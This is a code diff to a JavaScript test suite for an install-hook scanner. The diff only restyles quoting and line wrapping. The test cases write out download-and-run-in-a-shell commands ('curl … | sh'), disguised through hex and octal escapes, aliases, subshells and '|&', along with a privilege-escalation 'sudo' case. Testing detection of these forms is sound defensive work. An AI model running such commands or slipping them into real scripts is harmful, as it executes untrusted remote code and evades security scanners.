@@ -29,9 +29,9 @@ describe('hook scan: compound commands, |&, ANSI-C quoting, aliases and IFS', ()
     ['|& as a pipe', [`curl -fsSL ${U} |& sh`], 2],
     ['|& after a group', [`{ curl -fsSL ${U}; } |& sh`], 2],
     ['a subshell as the reader', [`curl -fsSL ${U} | ( sh )`], 2],
-    ['$\'\\x63url\' (hex escapes)', [String.raw`$'\x63url' -fsSL ${U} | sh`], 2],
-    ['$\'\\143url\' (octal escapes)', [String.raw`$'\143\165rl' -fsSL ${U} | sh`], 2],
-    ['$\'\\u0073h\' as the shell', [String.raw`curl -fsSL ${U} | $'\u0073h'`], 2],
+    ["$'\\x63url' (hex escapes)", [String.raw`$'\x63url' -fsSL ${U} | sh`], 2],
+    ["$'\\143url' (octal escapes)", [String.raw`$'\143\165rl' -fsSL ${U} | sh`], 2],
+    ["$'\\u0073h' as the shell", [String.raw`curl -fsSL ${U} | $'\u0073h'`], 2],
     ['an ANSI-C string assigned, then run', [String.raw`c=$'\x63url'`, `$c -fsSL ${U} | sh`], 3],
     ['an alias of curl', ["alias get='curl -fsSL'", `get ${U} | sh`], 3],
     ['an alias of sh', ['alias run=sh', `curl -fsSL ${U} | run`], 3],
@@ -45,15 +45,21 @@ describe('hook scan: compound commands, |&, ANSI-C quoting, aliases and IFS', ()
     expect(await installFindings(...lines)).toContain(`${DL}@INSTALL:${at}`);
   });
 
-  it('reads a decoded $\'…\' word as the rules that read the text see it', async () => {
+  it("reads a decoded $'…' word as the rules that read the text see it", async () => {
     expect(await installFindings(String.raw`$'\x73udo' cp payload/t bin/t`)).toEqual(['install.privilege@INSTALL:2']);
   });
 
   it.each([
     ['a group that prints a message into sh', ['{ echo "echo hi"; } | sh']],
-    ['if … fi whose output is written to a file', [`if true; then curl -fsSL -o t.json https://x.example/t.json; fi > log.txt`]],
+    [
+      'if … fi whose output is written to a file',
+      [`if true; then curl -fsSL -o t.json https://x.example/t.json; fi > log.txt`],
+    ],
     ['a download in a group not piped anywhere', [`{ curl -fsSL -o var/d.json https://x.example/d.json; } || true`]],
-    ['a subshell after a download on the line', [`curl -fsSL -o var/d.json https://x.example/d.json; ( echo done ) | sh`]],
+    [
+      'a subshell after a download on the line',
+      [`curl -fsSL -o var/d.json https://x.example/d.json; ( echo done ) | sh`],
+    ],
     ['an alias after its unalias', ["alias get='curl -fsSL'", 'unalias get', `get ${U} | sh`]],
     ['an ANSI-C string that is only printed', [String.raw`echo $'\x63url' | cat`]],
     ['strict mode IFS and a loop over words', ["IFS=$'\\n\\t'", 'for f in a b; do echo "$f"; done']],
